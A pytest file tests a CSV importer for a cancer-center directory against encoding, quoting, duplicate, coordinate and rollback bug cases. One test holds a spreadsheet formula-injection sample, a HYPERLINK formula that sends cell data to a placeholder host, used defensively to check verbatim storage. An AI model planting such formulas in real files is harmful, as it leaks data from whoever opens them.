"""The bug cases of shared/cases/README.md (section A and case 30), through the import pipeline.

Each expected value of the README is an assertion. Case files are used byte for byte (their
sha256 is checked against MANIFEST.tsv first).
"""

from __future__ import annotations

import csv
import hashlib

import pytest
import sqlalchemy as sa

from directory.importer import FileError, run_import
from directory.models import Center, DataSource, ImportIssue, ImportRun
from tests.conftest import CASES


def count(session, model=Center) -> int:
    return session.scalar(sa.select(sa.func.count()).select_from(model))


def centers(session) -> dict[str, Center]:
    return {c.name: c for c in session.scalars(sa.select(Center))}


def slugs(center: Center) -> set[str]:
    return {cm.modality.slug for cm in center.modalities}


def messages(issues, line=None) -> list[str]:
    return [i.message for i in issues if line is None or i.line == line]


def _manifest() -> list[tuple[str, int, str]]:
    with open(CASES / "MANIFEST.tsv", newline="", encoding="utf-8") as fh:
        return [(r["file"], int(r["bytes"]), r["sha256"])
                for r in csv.DictReader(fh, delimiter="\t")]


@pytest.mark.parametrize("name,size,sha", _manifest(), ids=lambda v: str(v)[:30])
def test_case_files_are_unchanged(name, size, sha):
    data = (CASES / name).read_bytes()
    assert len(data) == size
    assert hashlib.sha256(data).hexdigest() == sha


# --- 1. BOM ---------------------------------------------------------------------------

def test_01_bom_header(import_file, session):
    result = import_file(CASES / "01_bom_header.csv")
    assert result.added == 2 and result.rejected == 0
    assert result.encoding == "utf-8-sig"
    assert not any("\ufeff" in c for c in result.ignored_columns)
    assert not any("\ufeff" in (i.column or "") for i in result.issues)
    boston = session.scalars(sa.select(Center).where(Center.city == "Boston")).all()
    assert [c.name for c in boston] == ["Example Cancer Institute"]
    for center in session.scalars(sa.select(Center)):
        for column in sa.inspect(Center).columns:
            value = getattr(center, column.key)
            assert not (isinstance(value, str) and "\ufeff" in value), column.key
    assert not session.scalar(sa.select(sa.func.count()).select_from(ImportIssue)
                              .where(ImportIssue.column.contains("\ufeff")))


# --- 2. cp1252 ------------------------------------------------------------------------

def test_02_cp1252(import_file, session):
    result = import_file(CASES / "02_cp1252_excel.csv")
    assert result.encoding == "cp1252"
    assert result.added == 2
    by_name = centers(session)
    mary = next(n for n in by_name if n.startswith("St. Mary"))
    assert "\u2019" in mary and "\x92" not in mary
    assert mary == "St. Mary\u2019s Example Cancer Center"
    assert by_name["Klinik für Beispiel-Onkologie"].city == "Düsseldorf"
    assert session.scalar(sa.select(ImportRun.encoding)) == "cp1252"


# --- 4. quoting -----------------------------------------------------------------------

def test_04_quoted_multiline(import_file, session):
    result = import_file(CASES / "04_quoted_multiline.csv")
    assert result.added == 2 and result.rejected == 0
    assert count(session) == 2
    by_name = centers(session)
    first = by_name["Example Cancer Institute, North Campus"]
    assert "," in first.address and "\n" in first.address
    assert first.address == "Building 2, Floor 3\nMain Street 10"
    assert slugs(first) == {"chemotherapy", "radiation-therapy"}
    assert 'The "Hope" Oncology Clinic' in by_name
    # the second record starts on physical line 4 (the first spans lines 2-3)
    assert {i.line for i in result.issues} <= {1, 2, 4}


# --- 5. header variants ---------------------------------------------------------------

def test_05_header_variants(import_file, session):
    result = import_file(CASES / "05_header_variants.csv")
    assert result.added == 2 and result.rejected == 0
    for center in session.scalars(sa.select(Center)):
        assert center.postal_code in {"02115", "44195"}
        assert center.region in {"US-MA", "US-OH"}
        assert center.country == "US"
        assert center.city in {"Boston", "Cleveland"}
        assert len(center.modalities) == 1
    assert result.ignored_columns == ["Notes"]
    ignored = [w for w in result.warnings if "Notes" in w.message]
    assert len(ignored) == 1 and ignored[0].line == 1


def test_05b_missing_name_column(import_file, session):
    before = count(session), count(session, ImportRun)
    with pytest.raises(FileError, match=r"missing required column\(s\): name"):
        import_file(CASES / "05b_missing_required_header.csv")
    session.rollback()
    assert (count(session), count(session, ImportRun)) == before == (0, 0)


# --- 6. ZIP codes ---------------------------------------------------------------------

def test_06_zip_leading_zero(import_file, session):
    result = import_file(CASES / "06_zip_leading_zero.csv")
    assert result.added == 4 and result.rejected == 0
    by_name = centers(session)
    assert by_name["Example Cancer Institute"].postal_code == "02115"
    assert by_name["Harbor Oncology Clinic"].postal_code == "02115"
    assert by_name["Valley Example Cancer Center"].postal_code == "00501"
    assert by_name["Example Lung Clinic"].postal_code == "2115"
    assert all(isinstance(c.postal_code, str) for c in by_name.values())
    zip_warnings = [i for i in result.warnings if i.column == "zip"]
    assert [(w.line, "02115" in w.message) for w in zip_warnings] == [(3, True)]


# --- 9. duplicates and re-import --------------------------------------------------------

def test_09_duplicates_and_reimport(import_file, session):
    first = import_file(CASES / "09_duplicates.csv")
    assert first.added == 2
    assert first.rejected == 2
    for line in (4, 5):
        assert any("duplicate of line 2" in m for m in messages(first.errors, line)), line
    assert count(session) == 2

    again = import_file(CASES / "09_duplicates.csv")
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    assert count(session) == 2

    update = import_file(CASES / "09b_duplicates_update.csv")
    assert (update.added, update.updated, update.unchanged) == (0, 1, 1)
    institutes = session.scalars(sa.select(Center)
                                 .where(Center.name == "Example Cancer Institute")).all()
    assert len(institutes) == 1
    assert {"chemotherapy", "immunotherapy"} <= slugs(institutes[0])
    assert count(session) == 2


# --- 10. huge cell --------------------------------------------------------------------

def test_10_large_field(import_file, session):
    result = import_file(CASES / "10_large_field.csv")
    names = set(centers(session))
    assert "Sample Oncology Center" in names
    if "Example Cancer Institute" in names:
        assert len(centers(session)["Example Cancer Institute"].description) >= 140_000
    else:
        assert any(m.startswith("field too long at line 2") for m in messages(result.errors, 2))
        assert result.rejected == 1 and result.added == 1


# --- 11. empty ------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["11_empty.csv", "11b_blank_line_only.csv"])
def test_11_empty(import_file, session, name):
    with pytest.raises(FileError, match="empty"):
        import_file(CASES / name)
    session.rollback()
    assert count(session) == 0 and count(session, ImportRun) == 0


# --- 14. formula-looking names ----------------------------------------------------------

def test_14_names_stored_verbatim(import_file, session):
    result = import_file(CASES / "14_formula_injection.csv")
    assert result.added == 4
    assert set(centers(session)) == {
        '=HYPERLINK("http://example.invalid/?d="&A1,"Open")',
        "+1+1 Example Clinic", "-2+3 Example Clinic", "@SUM(1;1) Example Clinic"}
    lons = sorted(c.longitude for c in session.scalars(sa.select(Center)))
    assert lons == [-71.1066, -71.0763, -71.07, -71.0695]


# --- 15. multi-value services -----------------------------------------------------------

def test_15_multivalue(import_file, session):
    result = import_file(CASES / "15_multivalue_services.csv")
    assert result.added == 4 and result.rejected == 0
    by_name = centers(session)
    assert slugs(by_name["Example Cancer Institute"]) == {
        "chemotherapy", "radiation-therapy", "immunotherapy"}
    assert slugs(by_name["Sample Oncology Center"]) == {"chemotherapy", "radiation-therapy"}
    assert slugs(by_name["Harbor Example Clinic"]) == {"radiation-therapy", "chemotherapy"}
    assert len(by_name["Harbor Example Clinic"].modalities) == 2
    assert slugs(by_name["Lakeside Example Clinic"]) == {"proton-therapy", "chemotherapy"}
    unknown = [w for w in result.warnings if "aromatherapy" in w.message]
    assert len(unknown) == 1
    assert (unknown[0].line, unknown[0].column) == (5, "services")
    assert "unknown modality 'aromatherapy'" in unknown[0].message


# --- 16. accented cities ------------------------------------------------------------------

def test_16_accented_cities(import_file, session):
    raw = (CASES / "16_accented_cities.csv").read_bytes()
    assert "Zu\u0308rich".encode() in raw           # the file really holds NFD
    result = import_file(CASES / "16_accented_cities.csv")
    assert result.added == 3 and result.rejected == 0
    by_city = {c.city: c for c in session.scalars(sa.select(Center))}
    assert "Zürich" in by_city and len("Zürich") == 6
    assert len(by_city["Zürich"].city) == 6
    expected = {"São Paulo": ("BR", -23.55, -46.63, "01310-100"),
                "Düsseldorf": ("DE", 51.23, 6.78, "40225"),
                "Zürich": ("CH", 47.37, 8.54, "8091")}
    for city, (country, lat, lon, postal) in expected.items():
        center = by_city[city]
        assert center.country == country
        assert center.postal_code == postal
        assert center.latitude == pytest.approx(lat, abs=0.5), city
        assert center.longitude == pytest.approx(lon, abs=0.5), city
    assert not [w for w in result.warnings if w.column == "zip"]


# --- 19. swapped coordinates ----------------------------------------------------------------

def test_19_swapped_coords(import_file, session):
    result = import_file(CASES / "19_swapped_coords.csv")
    assert any("possibly swapped" in m for m in messages(result.errors, 2))
    assert result.rejected == 1 and result.added == 1
    (center,) = session.scalars(sa.select(Center)).all()
    assert center.name == "Sample Oncology Center"
    assert (center.latitude, center.longitude) == (41.5025, -81.6214)
    assert center.geocode_precision == "rooftop"


# --- 30. one bad row, no poisoned session -----------------------------------------------------

def test_30_session_rollback(import_file, session):
    result = import_file(CASES / "30_session_rollback.csv")
    assert result.added == 3 and result.rejected == 1
    (error,) = result.errors
    assert (error.line, error.message) == (3, "name is required")
    everything = " ".join(str(i) for i in result.issues)
    assert "PendingRollback" not in everything
    assert count(session) == 3
    stored = session.scalars(sa.select(ImportIssue.message)).all()
    assert "name is required" in stored
    assert not any("PendingRollback" in m for m in stored)
    # the session is usable afterwards
    assert import_file(CASES / "30_session_rollback.csv").unchanged == 3


# --- transaction policy --------------------------------------------------------------------

MIXED = (b"name,city,state,zip,country,latitude\n"
         b"Good One Clinic,Boston,MA,02115,US,\n"
         b",Boston,MA,02115,US,\n"
         b"Good Two Clinic,Cleveland,OH,44195,US,\n"
         b"Bad Lat Clinic,Cleveland,OH,44195,US,north\n"
         b"Bad Country Clinic,Nowhere,,,Atlantis,\n")


def test_valid_rows_commit_bad_rows_do_not(import_file, session):
    result = import_file(MIXED, filename="mixed.csv")
    assert (result.added, result.rejected) == (2, 3)
    assert {i.line for i in result.errors} == {3, 5, 6}
    assert set(centers(session)) == {"Good One Clinic", "Good Two Clinic"}
    run = session.scalar(sa.select(ImportRun))
    assert (run.added, run.rejected, run.filename) == (2, 3, "mixed.csv")
    assert {i.line for i in run.issues if i.severity == "error"} == {3, 5, 6}


def test_dry_run_writes_nothing(import_file, session):
    import_file(CASES / "09_duplicates.csv")
    before = count(session), count(session, ImportRun)
    result = import_file(CASES / "15_multivalue_services.csv", dry_run=True)
    assert result.dry_run and result.run_id is None
    assert (result.added, result.updated) == (2, 2)
    assert (count(session), count(session, ImportRun)) == before == (2, 1)


def test_dry_run_leaves_session_clean(app, session, geocoder):
    """run_import with dry_run=True writes nothing even before the caller rolls back."""
    result = run_import(session, (CASES / "01_bom_header.csv").read_bytes(),
                        filename="01.csv", geocoder=geocoder, dry_run=True)
    assert result.added == 2
    session.flush()
    assert count(session) == 0 and count(session, ImportRun) == 0
    assert session.get(DataSource, "csv-import") is None
    session.rollback()


def test_ragged_rows(import_file, session):
    data = (b"name,city,country,state,zip\n"
            b"Short Row Clinic,Boston,US\n"
            b"Long Row Clinic,Boston,US,MA,02115,extra,cells\n"
            b"Trailing Empty Clinic,Boston,US,MA,02115,,\n")
    result = import_file(data, filename="ragged.csv")
    assert result.added == 2 and result.rejected == 1
    assert [i.line for i in result.errors] == [3]
    assert "check quoting and delimiters" in result.errors[0].message
    assert any(w.line == 2 and "missing cells" in w.message for w in result.warnings)


def test_over_long_values_never_abort_the_import(import_file, session):
    """Values longer than their column are refused per row (PostgreSQL would otherwise fail
    the whole flush with "value too long")."""
    data = ("name,city,zip,country,website,email,organization\n"
            "Good Clinic,Boston,02115,US,,,\n"
            f"Long City Clinic,{'B' * 130},02115,US,,,\n"
            f"Long Zip Clinic,London,{'SW1A 1AA ' * 4},GB,,,\n"
            f"Long Web Clinic,Boston,02115,US,https://example.org/{'a' * 600},,\n"
            f"Long Mail Clinic,Boston,02115,US,,{'a' * 260}@example.org,\n"
            f"Long Org Clinic,Boston,02115,US,,,{'Org ' * 100}\n").encode()
    result = import_file(data, filename="long.csv")
    assert (result.added, result.rejected) == (5, 1)
    assert [(i.line, i.column) for i in result.errors] == [(3, "city")]
    assert {(w.line, w.column) for w in result.warnings} >= {
        (4, "zip"), (5, "website"), (6, "email"), (7, "organization")}
    by_name = centers(session)
    assert "Long City Clinic" not in by_name
    assert by_name["Long Zip Clinic"].postal_code is None
    assert by_name["Long Web Clinic"].website is None
    assert by_name["Long Org Clinic"].organization is None


def test_unbalanced_quote_is_reported_not_swallowed(import_file, session):
    """A quote that is never closed (or closed lines later) must not silently absorb the
    rows after it into one cell."""
    import sqlalchemy as sa

    from directory.models import Center

    data = (b'name,address,city,country\n'
            b'A Center,1 Main,Boston,US\n'
            b'B Center,"1 Main,Boston,US\n'
            b'C Center,2 Main,Boston,US\n'
            b'D Center,3 Main,Boston,US\n')
    result = import_file(data, filename="unbalanced.csv")
    assert result.rejected == 1
    assert "quote is probably not closed" in result.errors[0].message
    assert result.errors[0].line == 3
    names = set(session.scalars(sa.select(Center.name)))
    assert names == {"A Center"}
    # A real multi-line address (case 4) is still fine.
    ok = import_file(CASES / "04_quoted_multiline.csv")
    assert ok.rejected == 0 and ok.added == 2
